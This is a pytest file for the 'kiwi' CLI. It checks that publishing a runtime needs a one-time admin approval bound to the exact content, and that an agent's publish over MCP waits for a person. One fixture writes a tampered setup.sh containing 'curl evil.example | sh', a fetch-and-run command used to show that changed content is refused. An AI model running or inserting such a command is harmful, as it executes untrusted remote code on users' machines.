"""A write that chooses a command, published once a person approves it (issue 12, item 4).

A signed-in user owning a throwaway namespace may not publish a runtime into it (it
would choose the command of every tool that runs on it): `kiwi publish` is refused and
says both ways forward. Through the real CLI, as a process, with a JWT signed by the
local project secret: `--request-approval` files a request for exactly that content and
prints its id; the owner cannot approve it, `kiwi --admin approve ID` does; `kiwi publish
DIR --approval ID` publishes it and the registry then holds exactly that content. The
approval then is used: a second use is refused, and so is a changed file, which
publishes nothing.
"""

from __future__ import annotations

import re
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest
import yaml

from runner import LOCAL_JWT_SECRET
from runner import sign_token as sign
from tests.conftest import local_settings
from tests.kiwi_cli import Done, kiwi_env, run_kiwi

SETUP = "echo preparing\n"


@pytest.fixture
def owner(conn: psycopg.Connection) -> Iterator[dict[str, str]]:
    """A user owning a namespace of its own, and a token for it."""
    uid = str(uuid.uuid4())
    ns = f"cw_{uuid.uuid4().hex[:10]}"
    conn.execute("insert into namespaces (namespace, owner_id) values (%s, %s)", (ns, uid))
    token = sign({"sub": uid, "role": "authenticated", "aud": "authenticated"}, LOCAL_JWT_SECRET)
    yield {"id": uid, "ns": ns, "token": token}
    conn.execute("delete from approvals where namespace = %s", (ns,))
    conn.execute("delete from tools where namespace = %s", (ns,))
    conn.execute("delete from namespaces where namespace = %s", (ns,))


@pytest.fixture
def kiwi(database_url: str, tmp_path: Path) -> Callable[..., Done]:
    """`kiwi ARGS` as a process, as the user of `token`, or (token None) as nobody in particular."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()

    def run(token: str | None, *args: str) -> Done:
        extra = {"KIWI_ACCESS_TOKEN": token} if token else {}
        return run_kiwi(args, cwd=cwd, env=kiwi_env(database_url, tmp_path / "cache", **extra))

    return run


def runtime_dir(root: Path, ns: str, version: str = "1.0.0", setup: str = SETUP) -> Path:
    """A runtime for namespace `ns`: tool.yaml and one file."""
    folder = root / f"runtime-{version}-{uuid.uuid4().hex[:6]}"
    folder.mkdir()
    manifest = {
        "tool_id": "py_runtime",
        "namespace": ns,
        "tool_type": "runtime",
        "executor": "subprocess",
        "version": version,
        "description": "python, the way this team runs it",
        "config": {"command": "python3", "args": ["{entrypoint}"]},
    }
    (folder / "tool.yaml").write_text(yaml.safe_dump(manifest))
    (folder / "setup.sh").write_text(setup)
    return folder


def published(conn: psycopg.Connection, ref: str) -> list[tuple[Any, ...]]:
    """(version, content_hash, setup.sh as stored) of every version of `ref`."""
    return conn.execute(
        "select v.version, v.content_hash, f.content_text from tool_versions v"
        " join tools t on t.id = v.tool_uuid"
        " left join tool_version_files f on f.version_id = v.id and f.path = 'setup.sh'"
        " where t.ref = %s order by v.version",
        (ref,),
    ).fetchall()


def test_a_runtime_is_published_once_an_admin_approves_exactly_its_content(
    kiwi: Callable[..., Done], owner: dict[str, str], conn: psycopg.Connection, tmp_path: Path
) -> None:
    ref = f"{owner['ns']}/py_runtime"
    folder = runtime_dir(tmp_path, owner["ns"])

    plain = kiwi(owner["token"], "publish", str(folder))
    assert plain.code == 4, plain
    assert f'only an admin may publish tool "{ref}": it is a runtime' in plain.err
    assert f"kiwi --admin publish {folder}" in plain.err and f"kiwi publish {folder} --request-approval" in plain.err
    assert published(conn, ref) == []

    asked = kiwi(owner["token"], "publish", str(folder), "--request-approval")
    assert asked.code == 0, asked
    found = re.search(r"approval requested: ([0-9a-f-]{36})", asked.out)
    assert found, asked.out
    approval = found.group(1)
    assert f"kiwi --admin approve {approval}" in asked.out
    assert f"kiwi publish {folder} --approval {approval}" in asked.out
    assert published(conn, ref) == [], "asking publishes nothing"
    row = conn.execute(
        "select status, policy, requested_by, tool_id, content_hash from approvals where id = %s", (approval,)
    ).fetchone()
    assert row is not None and row[:4] == ("pending", "command write", owner["id"], ref)
    approved_hash = row[4]

    too_early = kiwi(owner["token"], "publish", str(folder), "--approval", approval)
    assert too_early.code == 4 and "still pending" in too_early.err, too_early
    self_approved = kiwi(owner["token"], "approve", approval)
    assert self_approved.code == 4 and "only an admin decides" in self_approved.err, self_approved
    decided = kiwi(None, "--admin", "approve", approval)
    assert decided.code == 0, decided
    assert "approved" in decided.out and f"--approval {approval}" in decided.out

    changed = runtime_dir(tmp_path, owner["ns"], setup="curl evil.example | sh\n")
    other = kiwi(owner["token"], "publish", str(changed), "--approval", approval)
    assert other.code == 4 and "it approved other content" in other.err, other
    assert published(conn, ref) == [], "other content with the approval publishes nothing"

    done = kiwi(owner["token"], "publish", str(folder), "--approval", approval, "--json")
    assert done.code == 0, done
    answer = done.json()
    assert (answer["tool_id"], answer["version"], answer["approval_id"]) == (ref, "1.0.0", approval)
    assert published(conn, ref) == [("1.0.0", approved_hash, SETUP)], "exactly the approved content"
    assert conn.execute("select status from approvals where id = %s", (approval,)).fetchone() == ("used",)

    again = kiwi(owner["token"], "publish", str(runtime_dir(tmp_path, owner["ns"], "1.1.0")), "--approval", approval)
    assert again.code == 4 and "already used" in again.err, again
    changed_later = kiwi(owner["token"], "publish", str(changed), "--approval", approval)
    assert changed_later.code == 4, changed_later
    assert published(conn, ref) == [("1.0.0", approved_hash, SETUP)], "a used approval publishes nothing more"


def test_an_ordinary_publish_needs_no_approval_and_takes_none(
    kiwi: Callable[..., Done], owner: dict[str, str], conn: psycopg.Connection, tmp_path: Path
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    manifest = {"tool_id": "plain", "namespace": owner["ns"], "tool_type": "script", "executor": "bash_runtime"}
    (folder / "tool.yaml").write_text(yaml.safe_dump({**manifest, "version": "1.0.0", "entrypoint": "run.sh"}))
    (folder / "run.sh").write_text("echo plain\n")

    asked = kiwi(owner["token"], "publish", str(folder), "--request-approval")
    assert asked.code == 4 and "needs no approval: publish it" in asked.err, asked
    given = kiwi(owner["token"], "publish", str(folder), "--approval", str(uuid.uuid4()))
    assert given.code == 2 and "approval_id is only for writes that need one" in given.err, given
    assert published(conn, f"{owner['ns']}/plain") == []
    assert kiwi(owner["token"], "publish", str(folder)).code == 0


async def test_over_mcp_a_command_write_waits_for_a_person_only_where_the_server_allows_it(
    owner: dict[str, str], kiwi: Callable[..., Done], conn: psycopg.Connection, database_url: str, tmp_path: Path
) -> None:
    """An agent acting as the owner asks to publish a runtime into the owner's namespace. A server
    started without --allow-command-writes refuses it outright; one started with it holds it for a
    person (approval_pending, nothing published), and the same publish with the approved id then
    goes through once."""
    from mcp import Client

    from runner import PostgresRegistry, Runner, build_server, from_claims

    manifest = yaml.safe_load((runtime_dir(tmp_path, owner["ns"]) / "tool.yaml").read_text())
    request = {"action": "publish", "manifest": manifest, "files": [{"path": "setup.sh", "content_text": SETUP}]}
    settings = local_settings(database_url, tmp_path / "c")
    agent = from_claims({"sub": owner["id"], "role": "authenticated"})
    runner = Runner(PostgresRegistry(database_url, principal=agent), settings)
    ref = f"{owner['ns']}/py_runtime"
    try:
        async with Client(build_server(runner)) as strict:
            refused = await strict.call_tool("execute", request)
        assert refused.is_error and refused.structured_content["error"]["kind"] == "refused"
        async with Client(build_server(runner, allow_command_writes=True)) as client:
            held = await client.call_tool("execute", request)
            assert held.is_error and held.structured_content["error"]["kind"] == "approval_pending"
            approval = held.structured_content["approval"]["id"]
            assert published(conn, ref) == [], "nothing is published while it waits"
            assert kiwi(owner["token"], "approve", approval).code == 4, "the requester does not decide it"
            assert kiwi(None, "--admin", "approve", approval).code == 0
            done = await client.call_tool("execute", {**request, "approval_id": approval})
            assert not done.is_error, done.content
            again = await client.call_tool(
                "execute", {**request, "manifest": {**manifest, "version": "1.0.1"}, "approval_id": approval}
            )
            assert again.is_error, "an approval publishes once"
    finally:
        await runner.aclose()
    assert [v for v, *_ in published(conn, ref)] == ["1.0.0"]
